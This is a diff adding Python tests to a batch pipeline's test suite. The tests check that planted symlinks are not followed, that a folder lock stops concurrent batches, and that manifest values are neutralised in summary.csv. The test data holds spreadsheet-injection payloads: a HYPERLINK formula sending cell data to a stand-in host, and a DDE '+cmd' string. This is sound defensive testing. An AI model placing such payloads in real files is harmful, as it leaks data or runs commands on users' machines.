@@ -214,3 +214,42 @@ def test_a_glb_batch_without_a_usable_rig_stops_before_any_line(library, tmp_pat
     done = batch(str(manifest), "-o", str(tmp_path / "out"), "--glb", str(tmp_path / "absent.blend"))
     assert done.returncode == 2 and "no such .blend file" in done.stderr
     assert not (tmp_path / "out" / "summary.json").exists()
+
+
+def test_the_batch_writes_only_inside_its_folder_and_no_cell_is_a_formula(tmp_path, front_center_wav):
+    """Links planted in a shared output folder are replaced, not followed; a manifest's words reach
+    summary.csv as text a spreadsheet will not run."""
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    out = tmp_path / "out"
+    (out / ".avi-batch").mkdir(parents=True)
+    for name in ("fc.json", "fc.live_link.csv", "summary.json", "summary.csv", ".avi-batch/fc.json",
+                 ".avi-batch/fc.attempts"):
+        target = outside / name.replace("/", "_")
+        target.write_text("precious")
+        (out / name).symlink_to(target)
+    manifest = write_csv(tmp_path / "lines.csv", [
+        {"id": "fc", "audio": str(front_center_wav), "transcript": "front center", "instruction": ANGRY,
+         "character": '=HYPERLINK("http://x.example/?"&A1,"click")'},
+        {"id": "bad", "audio": str(front_center_wav), "character": "+cmd|' /C calc'!A0", "seed": "@SUM(1)"}])
+    done = batch(str(manifest), "-o", str(out), "--live-link")
+    assert "fc: ok" in done.stderr, done.stderr[-2000:]  # (exit status 1: a line was refused)
+    assert all(p.read_text() == "precious" for p in outside.iterdir())  # nothing written through the links
+    for name in ("fc.json", "fc.live_link.csv", "summary.json", "summary.csv"):
+        assert not (out / name).is_symlink() and (out / name).is_file()
+    rows = list(csv.DictReader((out / "summary.csv").open()))
+    assert rows[0]["character"].startswith("'=HYPERLINK") and rows[0]["status"] == "ok"
+    assert rows[1]["character"].startswith("'+cmd") and rows[1]["status"] == "refused"
+
+
+def test_a_second_batch_on_the_same_folder_stops_at_once(tmp_path, front_center_wav):
+    from model_server.batch.runner import folder_lock
+
+    out = tmp_path / "out"
+    (out / ".avi-batch").mkdir(parents=True)
+    manifest = write_csv(tmp_path / "lines.csv", [{"id": "fc", "audio": str(front_center_wav)}])
+    with folder_lock(out):  # this process is the first batch
+        started = time.monotonic()
+        done = batch(str(manifest), "-o", str(out))
+    assert done.returncode != 0 and f"another batch (process {os.getpid()}) is writing to" in done.stderr
+    assert time.monotonic() - started < 60 and not (out / "fc.json").exists()
